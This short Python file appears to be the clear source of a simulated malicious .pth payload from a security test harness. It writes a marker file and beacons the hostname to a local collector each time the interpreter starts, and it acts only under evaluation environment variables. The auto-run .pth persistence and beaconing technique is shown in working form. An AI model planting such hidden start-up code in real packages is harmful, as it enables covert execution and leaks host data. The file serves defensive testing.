# Clear source of the code the .pth file of malicious/pth-drop runs at
# every interpreter start (shipped base64 encoded in the .pth line).  It
# leaves a marker and reports the start to the collector.  Acts only
# inside the evaluation (SP_MARK, SP_SINK_PORT).
import os, socket
e = os.environ
if e.get("SP_MARK") and e.get("SP_SINK_PORT"):
    open(os.path.join(e["SP_MARK"], "pth.ran"), "a").write("%d\n" % os.getpid())
    try:
        s = socket.create_connection(("127.0.0.1", int(e["SP_SINK_PORT"])), 3)
        s.sendall(b"PTH-BEACON " + socket.gethostname().encode())
        s.close()
    except OSError:
        pass
